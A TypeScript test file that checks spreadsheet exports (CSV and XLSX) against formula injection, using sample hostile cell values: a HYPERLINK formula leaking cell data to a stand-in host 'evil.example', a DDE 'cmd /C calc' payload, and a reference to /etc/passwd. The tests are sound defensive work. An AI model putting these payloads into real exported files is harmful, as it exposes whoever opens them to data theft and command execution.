import { read, type WorkSheet } from '@e965/xlsx';
import { expect, test } from 'vitest';
import type { ExportFile } from './export-table.ts';
import { toCsv } from './save-csv.ts';
import { toXlsx } from './save-xlsx.ts';

// The files as a spreadsheet program opens them: it takes what begins with a sign for a formula.

/** Also formulas that have not been reckoned yet. */
const SHOW_ALL = { cellFormula: true, sheetStubs: true } as const;

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"ดู")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "='file:///etc/passwd'#$A.A1",
];

const FILE: ExportFile = {
  name: 'ตาราง',
  sheet: 'ตาราง',
  head: [['สมาชิก', '=1+1']],
  headers: ['=1+1', 'จำนวนเงิน'],
  rows: HOSTILE.map((value) => [
    { kind: 'text', value },
    { kind: 'money', value: -150_00 },
  ]),
  totals: [
    [
      { kind: 'text', value: '=1+1' },
      { kind: 'money', value: -1_200_00 },
    ],
  ],
};

interface Opened {
  readonly texts: readonly string[];
  readonly formulas: readonly string[];
}

function opened(sheet: WorkSheet | undefined): Opened {
  const cells = Object.entries(sheet ?? {}).filter(([place]) => !place.startsWith('!'));
  return {
    texts: cells.flatMap(([, { t, v }]) => (t === 's' ? [String(v)] : [])),
    formulas: cells.flatMap(([place, { f }]) => (f === undefined ? [] : [`${place} ${f}`])),
  };
}

const first = ({ SheetNames: [name = ''], Sheets }: ReturnType<typeof read>) => Sheets[name];

test('[MEM-28] a workbook holds as words what looks like a formula, and no formula but its own sum', async () => {
  const bytes = await (await toXlsx(FILE)).arrayBuffer();
  const { texts, formulas } = opened(first(read(bytes, SHOW_ALL)));
  expect(formulas).toEqual(['B12 SUM(B4:B11)']);
  expect(texts).toEqual(expect.arrayContaining([HOSTILE[0], HOSTILE[2], HOSTILE[4]]));
});

test('[MEM-28] in a CSV nothing that looks like a formula is one when it is opened', () => {
  const { texts, formulas } = opened(first(read(toCsv(FILE), { type: 'string' })));
  expect(formulas).toEqual([]);
  const runs = texts.filter((text) => /^[=+@\t\r]|^-[^\d]/.test(text));
  expect(runs).toEqual([]);
  expect(texts.some((text) => text.includes('HYPERLINK'))).toBe(true);
});

test('the program that opens them does run formulas', () => {
  expect(opened(first(read('a,=1+1\r\n', { type: 'string' }))).formulas).toEqual(['B1 1+1']);
});
